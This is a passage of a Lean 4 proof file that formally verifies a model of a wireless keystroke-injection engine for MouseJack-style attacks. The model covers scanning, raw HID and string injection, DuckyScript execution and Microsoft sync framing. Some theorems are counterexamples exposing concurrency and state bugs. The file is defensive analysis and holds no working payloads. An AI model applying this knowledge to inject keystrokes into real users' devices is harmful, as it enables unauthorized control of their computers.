      right; right
      refine ⟨params, true, ?_, ?_⟩
      · show y.live.erase (TaskSpec.attack params, false) ++ [(TaskSpec.attack params, true)] = _
        rw [hl, ← hp.1, ← hp.2]
        simp
      · show (attackSession c env params y.st).state_ = _
        rw [hu.1]
        exact hs
  | setIdle t =>
    have hmem : (t, workDone t) ∈ y.live := by simpa [taskEnabled] using hen
    left
    refine ⟨?_, rfl⟩
    show y.live.erase (t, workDone t) = []
    rcases h with ⟨hl, _⟩ | ⟨hl, _⟩ | ⟨p, b, hl, _⟩
    · rw [hl] at hmem; cases hmem
    · rw [hl] at hmem ⊢
      have ht : (t, workDone t) = (TaskSpec.scan, false) := by simpa using hmem
      rw [ht]
      simp
    · rw [hl] at hmem ⊢
      have ht : (t, workDone t) = (TaskSpec.attack p, b) := by simpa using hmem
      rw [ht]
      simp
  | clearHandle t => exact sysStep_exit y _ _ rfl h
  | notify t => exact sysStep_exit y _ _ rfl h
  | taskDelete t => exact sysStep_exit y _ _ rfl h

theorem contextInv_run (k : MjConsts) (c : TaskConsts) (ops : List SysOp) :
    ∀ y : Sys, tasksExist k c y ops = true → initWhenIdle k c y ops = true →
      ContextInv y → ContextInv (ops.foldl (sysStep k c) y) := by
  induction ops with
  | nil => intro y _ _ h; exact h
  | cons op rest ih =>
    intro y h1 h2 h
    rw [tasksExist, Bool.and_eq_true] at h1
    rw [initWhenIdle, Bool.and_eq_true] at h2
    exact ih _ h1.2 h2.2 (contextInv_step k c y op h1.1 h2.1 h)

theorem rejected_when_busy (s : State)
    (hbusy : s.state_ = MjState.MJ_SCANNING ∨ s.state_ = MjState.MJ_ATTACKING)
    (present createOk : Bool) (handle targetIndex : Nat) (hidPayload : List Nat)
    (payloadLen : Nat) (text filePath : List Nat) :
    startScan present createOk handle s = (false, s) ∧
    startAttack createOk handle targetIndex hidPayload payloadLen s = (false, s) ∧
    injectString createOk handle targetIndex text s = (false, s) ∧
    executeDuckyScript createOk handle targetIndex filePath s = (false, s) := by
  have h1 : s.state_ ≠ MjState.MJ_IDLE := by
    rcases hbusy with h | h <;> rw [h] <;> decide
  have h2 : s.state_ ≠ MjState.MJ_IDLE ∧ s.state_ ≠ MjState.MJ_FOUND := by
    rcases hbusy with h | h <;> rw [h] <;> exact ⟨by decide, by decide⟩
  refine ⟨?_, ?_, ?_, ?_⟩
  · unfold startScan; rw [if_pos h1]
  · unfold startAttack; rw [if_pos h2]
  · unfold injectString; rw [if_pos h2]
  · unfold executeDuckyScript; rw [if_pos h2]

/-- The statements of the cleanup executed one after the other with no call in between
give the cleanup of `scanTask`, and after lines 446-535 that of `attackTask`. -/
theorem cleanup_steps (k : MjConsts) (c : TaskConsts) (s : State) (env : AttackEnv)
    (params : AttackParams) :
    [SysOp.setIdle TaskSpec.scan, SysOp.clearHandle TaskSpec.scan,
      SysOp.notify TaskSpec.scan, SysOp.taskDelete TaskSpec.scan].foldl (sysState k c) s =
      scanTaskEnd c s ∧
    [SysOp.attackWork env params, SysOp.setIdle (TaskSpec.attack params),
      SysOp.clearHandle (TaskSpec.attack params), SysOp.notify (TaskSpec.attack params),
      SysOp.taskDelete (TaskSpec.attack params)].foldl (sysState k c) s =
      attackTask c env params s :=
  ⟨rfl, rfl⟩


/-- C21 (amended). In every state that is Scanning or Attacking each of `startScan`,
`startAttack`, `injectString` and `executeDuckyScript` returns false and leaves the whole
state as it was (no context created). In every state reached by a run in which `init()`
succeeds only while the state is Idle, at most one background context exists that has not
yet executed the `state_ = MJ_IDLE` of its cleanup: none exactly when the state is Idle,
one when it is Scanning or Attacking, and a state other than Idle is Scanning or
Attacking. Contexts that have executed it and still have `taskHandle_ = nullptr`, the
notification or `vTaskDelete` before them are not counted: they can exist next to a new
context. -/
theorem one_background_context (k : MjConsts) (c : TaskConsts) (ops : List SysOp)
    (htasks : tasksExist k c { st := initState k, live := [], exiting := [] } ops = true)
    (hinit : initWhenIdle k c { st := initState k, live := [], exiting := [] } ops = true) :
    (runSys k c ops).live.length ≤ 1 ∧
    ((runSys k c ops).live = [] ↔ (runSys k c ops).st.state_ = MjState.MJ_IDLE) ∧
    ((runSys k c ops).st.state_ ≠ MjState.MJ_IDLE →
      (runSys k c ops).live.length = 1 ∧
      ((runSys k c ops).st.state_ = MjState.MJ_SCANNING ∨
       (runSys k c ops).st.state_ = MjState.MJ_ATTACKING)) ∧
    (∀ s : State, s.state_ = MjState.MJ_SCANNING ∨ s.state_ = MjState.MJ_ATTACKING →
      ∀ (present createOk : Bool) (handle targetIndex : Nat) (hidPayload : List Nat)
        (payloadLen : Nat) (text filePath : List Nat),
        startScan present createOk handle s = (false, s) ∧
        startAttack createOk handle targetIndex hidPayload payloadLen s = (false, s) ∧
        injectString createOk handle targetIndex text s = (false, s) ∧
        executeDuckyScript createOk handle targetIndex filePath s = (false, s)) := by
  have hinv : ContextInv (runSys k c ops) :=
    contextInv_run k c ops _ htasks hinit (Or.inl ⟨rfl, rfl⟩)
  refine ⟨?_, ?_, ?_, fun s hs => rejected_when_busy s hs⟩
  · rcases hinv with ⟨hl, _⟩ | ⟨hl, _⟩ | ⟨p, b, hl, _⟩ <;> rw [hl] <;> simp
  · rcases hinv with ⟨hl, hs⟩ | ⟨hl, hs⟩ | ⟨p, b, hl, hs⟩ <;> rw [hl, hs] <;> simp
  · intro hne
    rcases hinv with ⟨_, hs⟩ | ⟨hl, hs⟩ | ⟨p, b, hl, hs⟩
    · exact absurd hs hne
    · exact ⟨by rw [hl]; rfl, Or.inl hs⟩
    · exact ⟨by rw [hl]; rfl, Or.inr hs⟩

theorem one_background_context_witness :
    tasksExist sampleConsts sampleTaskConsts
      { st := initState sampleConsts, live := [], exiting := [] }
      [SysOp.init true, SysOp.startScan true true 1, SysOp.capture sampleCapture 19 5,
       SysOp.stopScan, SysOp.setIdle TaskSpec.scan, SysOp.injectString true 2 0 [97]] = true ∧
    initWhenIdle sampleConsts sampleTaskConsts
      { st := initState sampleConsts, live := [], exiting := [] }
      [SysOp.init true, SysOp.startScan true true 1, SysOp.capture sampleCapture 19 5,
       SysOp.stopScan, SysOp.setIdle TaskSpec.scan, SysOp.injectString true 2 0 [97]] = true ∧
    (runSys sampleConsts sampleTaskConsts
      [SysOp.init true, SysOp.startScan true true 1, SysOp.capture sampleCapture 19 5,
       SysOp.stopScan, SysOp.setIdle TaskSpec.scan, SysOp.injectString true 2 0 [97]]).live =
      [(TaskSpec.attack ⟨0, [], 0, [97], [], AttackMode.STRING⟩, false)] ∧
    (runSys sampleConsts sampleTaskConsts
      [SysOp.init true, SysOp.startScan true true 1, SysOp.capture sampleCapture 19 5,
       SysOp.stopScan, SysOp.setIdle TaskSpec.scan, SysOp.injectString true 2 0 [97]]).exiting =
      [(TaskSpec.scan, 0)] ∧
    (runSys sampleConsts sampleTaskConsts
      [SysOp.init true, SysOp.startScan true true 1, SysOp.capture sampleCapture 19 5,
       SysOp.stopScan, SysOp.setIdle TaskSpec.scan,
       SysOp.injectString true 2 0 [97]]).live.length ≤ 1 :=
  ⟨by decide, by decide, by decide, by decide,
    (one_background_context sampleConsts sampleTaskConsts
      [SysOp.init true, SysOp.startScan true true 1, SysOp.capture sampleCapture 19 5,
       SysOp.stopScan, SysOp.setIdle TaskSpec.scan, SysOp.injectString true 2 0 [97]]
      (by decide) (by decide)).1⟩

/-- C21 (counterexample). A run in which every task step is taken by an existing context:
`startScan()` creates the scan context, `init()` is called while it sweeps and sets the
state to Idle, and a second `startScan()` then returns true: two scan contexts exist, and
neither has reached its cleanup. -/
theorem second_context_after_init :
    tasksExist sampleConsts sampleTaskConsts
      { st := initState sampleConsts, live := [], exiting := [] }
      [SysOp.startScan true true 1, SysOp.init true, SysOp.startScan true true 2] = true ∧
    (runSys sampleConsts sampleTaskConsts
      [SysOp.startScan true true 1, SysOp.init true]).live = [(TaskSpec.scan, false)] ∧
    (runSys sampleConsts sampleTaskConsts
      [SysOp.startScan true true 1, SysOp.init true]).st.state_ = MjState.MJ_IDLE ∧
    (startScan true true 2 (runSys sampleConsts sampleTaskConsts
      [SysOp.startScan true true 1, SysOp.init true]).st).1 = true ∧
    (runSys sampleConsts sampleTaskConsts
      [SysOp.startScan true true 1, SysOp.init true, SysOp.startScan true true 2]).live =
      [(TaskSpec.scan, false), (TaskSpec.scan, false)] ∧
    (runSys sampleConsts sampleTaskConsts
      [SysOp.startScan true true 1, SysOp.init true, SysOp.startScan true true 2]).exiting =
      [] := by
  decide

/-! ## Starting a scan or an attack -/

/-- C22 (counterexample). `startScan()` on the idle engine with the two targets of
`sampleTargets` returns true and the registry still holds both: the count is 2 and the
entries at indices 0 and 1 are active. -/
theorem startScan_keeps_registry :
    (startScan true true 1 sampleTargets).1 = true ∧
    (startScan true true 1 sampleTargets).2.targetCount_ = 2 ∧
    (targetAt (startScan true true 1 sampleTargets).2 0).active = true ∧
    (targetAt (startScan true true 1 sampleTargets).2 1).active = true := by
  decide

theorem launchAttack_registry_state (createOk : Bool) (handle : Nat) (params : AttackParams)
    (s : State) :
    (launchAttack createOk handle params s).1 = createOk ∧
    (launchAttack createOk handle params s).2.state_ =
      (if createOk then MjState.MJ_ATTACKING else MjState.MJ_IDLE) ∧
    (launchAttack createOk handle params s).2.targets_ = s.targets_ ∧
    (launchAttack createOk handle params s).2.targetCount_ = s.targetCount_ :=
  ⟨(launchAttack_control createOk handle params s).1,
    (launchAttack_control createOk handle params s).2.1,
    (launchAttack_registry createOk handle params s).1,
    (launchAttack_registry createOk handle params s).2⟩

/-- C23. Called in state Idle with arguments that pass the guards (module present for
`startScan`; index below the count and entry active for `startAttack`; index below the
count for `injectString` and `executeDuckyScript`), each operation returns whether the
background context was created; when creation failed the state after the call is Idle,
when it succeeded the state is Scanning for `startScan` and Attacking for the other
three; in both cases the registry is unchanged. -/
theorem creation_outcome (createOk : Bool) (handle targetIndex : Nat) (hidPayload : List Nat)
    (payloadLen : Nat) (text filePath : List Nat) (s : State)
    (hidle : s.state_ = MjState.MJ_IDLE)
    (hidx : targetIndex < s.targetCount_) (hact : (targetAt s targetIndex).active = true) :
    ((startScan true createOk handle s).1 = createOk ∧
      (startScan true createOk handle s).2.state_ =
        (if createOk then MjState.MJ_SCANNING else MjState.MJ_IDLE) ∧
      (startScan true createOk handle s).2.targets_ = s.targets_ ∧
      (startScan true createOk handle s).2.targetCount_ = s.targetCount_) ∧
    ((startAttack createOk handle targetIndex hidPayload payloadLen s).1 = createOk ∧
      (startAttack createOk handle targetIndex hidPayload payloadLen s).2.state_ =
        (if createOk then MjState.MJ_ATTACKING else MjState.MJ_IDLE) ∧
      (startAttack createOk handle targetIndex hidPayload payloadLen s).2.targets_ =
        s.targets_ ∧
      (startAttack createOk handle targetIndex hidPayload payloadLen s).2.targetCount_ =
        s.targetCount_) ∧
    ((injectString createOk handle targetIndex text s).1 = createOk ∧
      (injectString createOk handle targetIndex text s).2.state_ =
        (if createOk then MjState.MJ_ATTACKING else MjState.MJ_IDLE) ∧
      (injectString createOk handle targetIndex text s).2.targets_ = s.targets_ ∧
      (injectString createOk handle targetIndex text s).2.targetCount_ = s.targetCount_) ∧
    ((executeDuckyScript createOk handle targetIndex filePath s).1 = createOk ∧
      (executeDuckyScript createOk handle targetIndex filePath s).2.state_ =
        (if createOk then MjState.MJ_ATTACKING else MjState.MJ_IDLE) ∧
      (executeDuckyScript createOk handle targetIndex filePath s).2.targets_ = s.targets_ ∧
      (executeDuckyScript createOk handle targetIndex filePath s).2.targetCount_ =
        s.targetCount_) := by
  have hst : ¬ (s.state_ ≠ MjState.MJ_IDLE ∧ s.state_ ≠ MjState.MJ_FOUND) :=
    fun h => h.1 hidle
  have hge : ¬ targetIndex ≥ s.targetCount_ := by omega
  have hbad : ¬ (targetIndex ≥ s.targetCount_ ∨ (targetAt s targetIndex).active = false) := by
    rintro (h | h)
    · exact hge h
    · rw [hact] at h; cases h
  refine ⟨?_, ?_, ?_, ?_⟩
  · unfold startScan
    rw [if_neg (fun h => h hidle)]
    cases createOk <;> simp
  · unfold startAttack
    rw [if_neg hst, if_neg hbad]
    exact launchAttack_registry_state _ _ _ _
  · unfold injectString
    rw [if_neg hst, if_neg hge]
    exact launchAttack_registry_state _ _ _ _
  · unfold executeDuckyScript
    rw [if_neg hst, if_neg hge]
    exact launchAttack_registry_state _ _ _ _

theorem creation_outcome_witness :
    sampleTargets.state_ = MjState.MJ_IDLE ∧
    0 < sampleTargets.targetCount_ ∧
    (targetAt sampleTargets 0).active = true ∧
    ((startScan true false 7 sampleTargets).1 = false ∧
      (startScan true false 7 sampleTargets).2.state_ =
        (if false then MjState.MJ_SCANNING else MjState.MJ_IDLE) ∧
      (startScan true false 7 sampleTargets).2.targets_ = sampleTargets.targets_ ∧
      (startScan true false 7 sampleTargets).2.targetCount_ = sampleTargets.targetCount_) ∧
    ((startAttack false 7 0 [2, 4] 2 sampleTargets).1 = false ∧
      (startAttack false 7 0 [2, 4] 2 sampleTargets).2.state_ =
        (if false then MjState.MJ_ATTACKING else MjState.MJ_IDLE) ∧
      (startAttack false 7 0 [2, 4] 2 sampleTargets).2.targets_ =
        sampleTargets.targets_ ∧
      (startAttack false 7 0 [2, 4] 2 sampleTargets).2.targetCount_ =
        sampleTargets.targetCount_) ∧
    ((injectString false 7 0 [97] sampleTargets).1 = false ∧
      (injectString false 7 0 [97] sampleTargets).2.state_ =
        (if false then MjState.MJ_ATTACKING else MjState.MJ_IDLE) ∧
      (injectString false 7 0 [97] sampleTargets).2.targets_ = sampleTargets.targets_ ∧
      (injectString false 7 0 [97] sampleTargets).2.targetCount_ = sampleTargets.targetCount_) ∧
    ((executeDuckyScript false 7 0 [47, 97] sampleTargets).1 = false ∧
      (executeDuckyScript false 7 0 [47, 97] sampleTargets).2.state_ =
        (if false then MjState.MJ_ATTACKING else MjState.MJ_IDLE) ∧
      (executeDuckyScript false 7 0 [47, 97] sampleTargets).2.targets_ = sampleTargets.targets_ ∧
      (executeDuckyScript false 7 0 [47, 97] sampleTargets).2.targetCount_ =
        sampleTargets.targetCount_) :=
  ⟨by decide, by decide, by decide,
    creation_outcome false 7 0 [2, 4] 2 [97] [47, 97] sampleTargets
      (by decide) (by decide) (by decide)⟩

/-! ## The end of the attack task -/

theorem attackTask_lock_busy (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (s : State) (hlock : env.acquireSpi = false) :
    attackTask c env params s =
      { s with radio := s.radio ++ [RadioOp.acquireSpi false],
               state_ := MjState.MJ_IDLE, taskHandle_ := none,
               notified := s.notified ++ [[c.MSG_NRF_ATTACK_COMPLETE, params.targetIndex]] } := by
  unfold attackTask attackSession
  simp [hlock, emit]

/-- C24 (counterexample). `startAttack` on the idle engine with the targets of `sampleTargets`
returns true and sets the state to Attacking before the radio lock is requested; the
attack task that then finds the lock busy only logs the failed acquisition, sets the
state to Idle and emits the attack-complete event. -/
theorem lock_busy_reported_true :
    (startAttack true 7 0 [2, 4] 2 sampleTargets).1 = true ∧
    (startAttack true 7 0 [2, 4] 2 sampleTargets).2.state_ = MjState.MJ_ATTACKING ∧
    (startAttack true 7 0 [2, 4] 2 sampleTargets).2.created =
      [TaskSpec.attack ⟨0, [2, 4], 2, [], [], AttackMode.RAW_HID⟩] ∧
    (attackTask sampleTaskConsts { sampleEnv with acquireSpi := false }
      ⟨0, [2, 4], 2, [], [], AttackMode.RAW_HID⟩
      (startAttack true 7 0 [2, 4] 2 sampleTargets).2).radio = [RadioOp.acquireSpi false] ∧
    (attackTask sampleTaskConsts { sampleEnv with acquireSpi := false }
      ⟨0, [2, 4], 2, [], [], AttackMode.RAW_HID⟩
      (startAttack true 7 0 [2, 4] 2 sampleTargets).2).state_ = MjState.MJ_IDLE := by
  decide

/-- C24 (amended). The radio lock is requested by the attack task, not by the operation
that starts the session: called in state Idle with a valid index and a context that can
be created, `startAttack`, `injectString` and `executeDuckyScript` return true and set
the state to Attacking whatever the lock does. When the task then cannot acquire the
lock it transmits nothing and leaves registry, sequence counter and stop flag as they
were: it only sets the state to Idle, clears the task handle and emits the
attack-complete event. -/
theorem lock_busy_outcome (c : TaskConsts) (env : AttackEnv) (handle targetIndex : Nat)
    (hidPayload : List Nat) (payloadLen : Nat) (text filePath : List Nat) (s : State)
    (hlock : env.acquireSpi = false)
    (hidle : s.state_ = MjState.MJ_IDLE)
    (hidx : targetIndex < s.targetCount_) (hact : (targetAt s targetIndex).active = true) :
    ((startAttack true handle targetIndex hidPayload payloadLen s).1 = true ∧
      (startAttack true handle targetIndex hidPayload payloadLen s).2.state_ =
        MjState.MJ_ATTACKING) ∧
    ((injectString true handle targetIndex text s).1 = true ∧
      (injectString true handle targetIndex text s).2.state_ = MjState.MJ_ATTACKING) ∧
    ((executeDuckyScript true handle targetIndex filePath s).1 = true ∧
      (executeDuckyScript true handle targetIndex filePath s).2.state_ =
        MjState.MJ_ATTACKING) ∧
    ∀ (params : AttackParams) (t : State),
      attackTask c env params t =
        { t with radio := t.radio ++ [RadioOp.acquireSpi false],
                 state_ := MjState.MJ_IDLE, taskHandle_ := none,
                 notified := t.notified ++
                   [[c.MSG_NRF_ATTACK_COMPLETE, params.targetIndex]] } := by
  have hst : ¬ (s.state_ ≠ MjState.MJ_IDLE ∧ s.state_ ≠ MjState.MJ_FOUND) :=
    fun h => h.1 hidle
  have hge : ¬ targetIndex ≥ s.targetCount_ := by omega
  have hbad : ¬ (targetIndex ≥ s.targetCount_ ∨ (targetAt s targetIndex).active = false) := by
    rintro (h | h)
    · exact hge h
    · rw [hact] at h; cases h
  refine ⟨?_, ?_, ?_, fun params t => attackTask_lock_busy c env params t hlock⟩
  · unfold startAttack
    rw [if_neg hst, if_neg hbad]
    exact ⟨rfl, rfl⟩
  · unfold injectString
    rw [if_neg hst, if_neg hge]
    exact ⟨rfl, rfl⟩
  · unfold executeDuckyScript
    rw [if_neg hst, if_neg hge]
    exact ⟨rfl, rfl⟩

theorem lock_busy_outcome_witness :
    ({ sampleEnv with acquireSpi := false } : AttackEnv).acquireSpi = false ∧
    sampleTargets.state_ = MjState.MJ_IDLE ∧
    0 < sampleTargets.targetCount_ ∧
    (targetAt sampleTargets 0).active = true ∧
    ((startAttack true 7 0 [2, 4] 2 sampleTargets).1 = true ∧
      (startAttack true 7 0 [2, 4] 2 sampleTargets).2.state_ = MjState.MJ_ATTACKING) ∧
    ((injectString true 7 0 [97] sampleTargets).1 = true ∧
      (injectString true 7 0 [97] sampleTargets).2.state_ = MjState.MJ_ATTACKING) ∧
    ((executeDuckyScript true 7 0 [47, 97] sampleTargets).1 = true ∧
      (executeDuckyScript true 7 0 [47, 97] sampleTargets).2.state_ =
        MjState.MJ_ATTACKING) ∧
    ∀ (params : AttackParams) (t : State),
      attackTask sampleTaskConsts { sampleEnv with acquireSpi := false } params t =
        { t with radio := t.radio ++ [RadioOp.acquireSpi false],
                 state_ := MjState.MJ_IDLE, taskHandle_ := none,
                 notified := t.notified ++
                   [[sampleTaskConsts.MSG_NRF_ATTACK_COMPLETE, params.targetIndex]] } :=
  ⟨rfl, by decide, by decide, by decide,
    lock_busy_outcome sampleTaskConsts { sampleEnv with acquireSpi := false } 7 0 [2, 4] 2
      [97] [47, 97] sampleTargets rfl (by decide) (by decide) (by decide)⟩

/-! ### Frames of the synchronization loop -/

theorem msTransmit_frames_congr (target : MjTarget) (m h : Nat) (t1 t2 : State)
    (hr : transmitted t1.radio = transmitted t2.radio) (hq : t1.msSequence_ = t2.msSequence_) :
    transmitted (msTransmit target m h t1).radio = transmitted (msTransmit target m h t2).radio ∧
    (msTransmit target m h t1).msSequence_ = (msTransmit target m h t2).msSequence_ := by
  rw [msTransmit_frames, msTransmit_frames, msTransmit_seq, msTransmit_seq, hr, hq]
  exact ⟨rfl, rfl⟩

theorem msSync_frames_congr (target : MjTarget) :
    ∀ (n : Nat) (t1 t2 : State), transmitted t1.radio = transmitted t2.radio →
      t1.msSequence_ = t2.msSequence_ →
      transmitted (msSync target n t1).radio = transmitted (msSync target n t2).radio := by
  intro n
  induction n with
  | zero => intro t1 t2 hr _; exact hr
  | succ n ih =>
    intro t1 t2 hr hq
    rw [msSync, msSync]
    exact ih _ _ (msTransmit_frames_congr target 0 0 t1 t2 hr hq).1
      (msTransmit_frames_congr target 0 0 t1 t2 hr hq).2

theorem msSync_reset_congr (target : MjTarget) (s1 s : State)
    (h : transmitted s1.radio = transmitted s.radio) :
    transmitted (msSync target 6 { s1 with msSequence_ := 0 }).radio =
      transmitted (msSync target 6 { s with msSequence_ := 0 }).radio :=
  msSync_frames_congr target 6 _ _ h rfl

/-- The frames of a session whose body does nothing are those of the synchronization
loop. -/
theorem idle_session_frames (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (s : State)
    (hbody : ∀ t : State, attackBody c env params (targetAt s params.targetIndex) t = t) :
    transmitted (attackSession c env params s).radio =
      transmitted (if env.acquireSpi = true ∧ isMicrosoft (targetAt s params.targetIndex) = true
        then msSync (targetAt s params.targetIndex) 6 { s with msSequence_ := 0 }
        else s).radio := by
  have h5 : transmitted
      (emit (RadioOp.setTxMode (targetAt s params.targetIndex).address
        (targetAt s params.targetIndex).addrLen)
      (emit (RadioOp.setAddressWidth 5)
      (emit (RadioOp.setChannel (targetAt s params.targetIndex).channel)
      (emit (RadioOp.setPALevel 3)
      (emit RadioOp.setDataRate
      (emit (RadioOp.acquireSpi true) s)))))).radio = transmitted s.radio := by
    rw [transmitted_emit _ _ (fun f hf => by cases hf),
      transmitted_emit _ _ (fun f hf => by cases hf),
      transmitted_emit _ _ (fun f hf => by cases hf),
      transmitted_emit _ _ (fun f hf => by cases hf),
      transmitted_emit _ _ (fun f hf => by cases hf),
      transmitted_emit _ _ (fun f hf => by cases hf)]
  unfold attackSession
  simp only [hbody]
  by_cases hacq : env.acquireSpi = true
  · simp only [hacq, if_true, true_and]
    rw [transmitted_emit _ _ (fun f hf => by cases hf),
      transmitted_emit _ _ (fun f hf => by cases hf)]
    by_cases hms : isMicrosoft (targetAt s params.targetIndex) = true
    · rw [if_pos hms, if_pos hms]
      exact msSync_reset_congr (targetAt s params.targetIndex) _ s h5
    · rw [if_neg hms, if_neg hms]
      exact h5
  · have hf : env.acquireSpi = false := by
      cases h : env.acquireSpi
      · rfl
      · exact absurd h hacq
    simp only [hf, Bool.false_eq_true, if_false, false_and]
    rw [transmitted_emit _ _ (fun f hf => by cases hf)]

/-- C25. Every run of the attack task, in every mode and whatever the lock, the stop flag
and the script file do, ends with `state_` set to Idle and has emitted exactly one
notification, the attack-complete event `[opcode, targetIndex]` with the index the
session was started with. When the script file of a script session cannot be opened, the
frames transmitted are those of the synchronization loop alone (none on a Logitech
target or without the lock): no frame comes from the script. -/
theorem attackTask_completion (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (s : State) :
    (attackTask c env params s).state_ = MjState.MJ_IDLE ∧
    (attackTask c env params s).notified =
      s.notified ++ [[c.MSG_NRF_ATTACK_COMPLETE, params.targetIndex]] ∧
    (params.mode = AttackMode.DUCKY → env.file = none →
      transmitted (attackTask c env params s).radio =
        transmitted (if env.acquireSpi = true ∧ isMicrosoft (targetAt s params.targetIndex) = true
          then msSync (targetAt s params.targetIndex) 6 { s with msSequence_ := 0 }
          else s).radio) := by
  refine ⟨rfl, ?_, ?_⟩
  · show (attackSession c env params s).notified ++ _ = _
    rw [(attackSession_untouched c env params s).2.2.2.2.1]
  · intro hmode hfile
    have hbody : ∀ t : State, attackBody c env params (targetAt s params.targetIndex) t = t := by
      intro t
      unfold attackBody
      rw [hmode]
      simp only
      rw [hfile]
    exact idle_session_frames c env params s hbody

theorem attackTask_completion_witness :
    (attackTask sampleTaskConsts sampleEnv ⟨0, [], 0, [], [47, 97], AttackMode.DUCKY⟩
      sampleTargets).state_ = MjState.MJ_IDLE ∧
    (attackTask sampleTaskConsts sampleEnv ⟨0, [], 0, [], [47, 97], AttackMode.DUCKY⟩
      sampleTargets).notified = sampleTargets.notified ++ [[0xD2, 0]] ∧
    (transmitted (attackTask sampleTaskConsts sampleEnv
      ⟨0, [], 0, [], [47, 97], AttackMode.DUCKY⟩ sampleTargets).radio).length = 12 ∧
    transmitted (attackTask sampleTaskConsts sampleEnv
      ⟨0, [], 0, [], [47, 97], AttackMode.DUCKY⟩ sampleTargets).radio =
      transmitted (if sampleEnv.acquireSpi = true ∧ isMicrosoft (targetAt sampleTargets 0) = true
        then msSync (targetAt sampleTargets 0) 6 { sampleTargets with msSequence_ := 0 }
        else sampleTargets).radio :=
  ⟨by decide, by decide, by decide,
    (attackTask_completion sampleTaskConsts sampleEnv
      ⟨0, [], 0, [], [47, 97], AttackMode.DUCKY⟩ sampleTargets).2.2 rfl rfl⟩

/-! ## The script parser -/

theorem atolDigits_eq (ds : List Nat) (hdig : ∀ d ∈ ds, 48 ≤ d ∧ d ≤ 57) :
    ∀ acc : Nat, atolDigits ds acc =
      acc * 10 ^ ds.length + Nat.ofDigits 10 (ds.reverse.map (fun d => d - 48)) := by
  induction ds with
  | nil => intro acc; simp [atolDigits]
  | cons d ds ih =>
    intro acc
    have hd := hdig d (List.mem_cons_self _ _)
    rw [atolDigits, if_pos hd, ih (fun x hx => hdig x (List.mem_cons_of_mem _ hx))]
    rw [List.reverse_cons, List.map_append, Nat.ofDigits_append, List.map_singleton,
      Nat.ofDigits_singleton, List.length_map, List.length_reverse, List.length_cons]
    ring

theorem toInt_digit_cons (d : Nat) (rest : List Nat) (hd : 48 ≤ d ∧ d ≤ 57) :
    toInt (d :: rest) =
      if (atolDigits (d :: rest) 0 : Int) > 2147483647 then 2147483647
      else if (atolDigits (d :: rest) 0 : Int) < -2147483648 then -2147483648
      else (atolDigits (d :: rest) 0 : Int) := by
  obtain ⟨h1, h2⟩ := hd
  interval_cases d <;> rfl

theorem toInt_minus (l : List Nat) :
    toInt (45 :: l) =
      if - (atolDigits l 0 : Int) > 2147483647 then 2147483647
      else if - (atolDigits l 0 : Int) < -2147483648 then -2147483648
      else - (atolDigits l 0 : Int) := rfl

theorem toInt_digits (ds : List Nat) (hne : ds ≠ []) (hdig : ∀ d ∈ ds, 48 ≤ d ∧ d ≤ 57)
    (neg : Bool) (n : Nat) (hn : n = Nat.ofDigits 10 (ds.reverse.map (fun d => d - 48))) :
    toInt ((if neg then [45] else []) ++ ds) =
      if neg then (if (n : Int) > 2147483648 then -2147483648 else - (n : Int))
      else (if (n : Int) > 2147483647 then 2147483647 else (n : Int)) := by
  have hval := atolDigits_eq ds hdig 0
  rw [Nat.zero_mul, Nat.zero_add, ← hn] at hval
  obtain ⟨d, rest, rfl⟩ := List.exists_cons_of_ne_nil hne
  have hd := hdig d (List.mem_cons_self _ _)
  cases neg
  · have e : (if false = true then [45] else []) ++ d :: rest = d :: rest := rfl
    rw [e, toInt_digit_cons d rest hd, hval]
    simp only [Bool.false_eq_true, if_false]
    split_ifs <;> omega
  · have e : (if true = true then [45] else []) ++ d :: rest = 45 :: d :: rest := rfl
    rw [e, toInt_minus, hval]
    simp only [if_true]
    split_ifs <;> omega

/-- C27. For every script line `DELAY <n>` with `n` written as an optional minus sign and
decimal digits, `parseDuckyLine` returns true, transmits no frame and leaves the sequence
counter unchanged; it calls `vTaskDelay` for `n` milliseconds when `1 ≤ n ≤ 30000` and
does nothing at all otherwise (zero, a negative number, a number above 30000). -/
theorem delay_line (c : TaskConsts) (env : AttackEnv) (targetIndex : Nat) (s : State)
    (neg : Bool) (ds : List Nat) (n : Nat)
    (hne : ds ≠ []) (hdig : ∀ d ∈ ds, 48 ≤ d ∧ d ≤ 57)
    (hn : n = Nat.ofDigits 10 (ds.reverse.map (fun d => d - 48))) :
    parseDuckyLine c env ([68, 69, 76, 65, 89, 32] ++ (if neg then [45] else []) ++ ds)
        targetIndex s =
      (true, if neg = false ∧ 1 ≤ n ∧ n ≤ 30000 then emit (RadioOp.vTaskDelay n) s else s) ∧
    transmitted (parseDuckyLine c env
      ([68, 69, 76, 65, 89, 32] ++ (if neg then [45] else []) ++ ds) targetIndex s).2.radio =
      transmitted s.radio ∧
    (parseDuckyLine c env
      ([68, 69, 76, 65, 89, 32] ++ (if neg then [45] else []) ++ ds) targetIndex s).2.msSequence_ =
      s.msSequence_ := by
  have hmain : parseDuckyLine c env
      ([68, 69, 76, 65, 89, 32] ++ (if neg then [45] else []) ++ ds) targetIndex s =
      (true, if neg = false ∧ 1 ≤ n ∧ n ≤ 30000 then emit (RadioOp.vTaskDelay n) s else s) := by
    have hline : [68, 69, 76, 65, 89, 32] ++ (if neg then [45] else []) ++ ds =
        68 :: 69 :: 76 :: 65 :: 89 :: 32 :: ((if neg then [45] else []) ++ ds) := by simp
    rw [hline]
    unfold parseDuckyLine
    have hp1 : ([82, 69, 77].isPrefixOf
        (68 :: 69 :: 76 :: 65 :: 89 :: 32 :: ((if neg then [45] else []) ++ ds)) ||
        [47, 47].isPrefixOf
        (68 :: 69 :: 76 :: 65 :: 89 :: 32 :: ((if neg then [45] else []) ++ ds))) = false := rfl
    have hp2 : [68, 69, 76, 65, 89].isPrefixOf
        (68 :: 69 :: 76 :: 65 :: 89 :: 32 :: ((if neg then [45] else []) ++ ds)) = true := rfl
    have hdrop : (68 :: 69 :: 76 :: 65 :: 89 :: 32 :: ((if neg then [45] else []) ++ ds)).drop 6 =
        (if neg then [45] else []) ++ ds := rfl
    simp only [hp1, hp2, hdrop, Bool.false_eq_true, if_false, if_true]
    rw [toInt_digits ds hne hdig neg n hn]
    cases neg
    · simp only [Bool.false_eq_true, if_false, true_and]
      by_cases h : 1 ≤ n ∧ n ≤ 30000
      · rw [if_pos h]
        have h2 : ¬ ((n : Int) > 2147483647) := by omega
        rw [if_neg h2, if_pos (by omega), Int.toNat_ofNat]
      · rw [if_neg h]
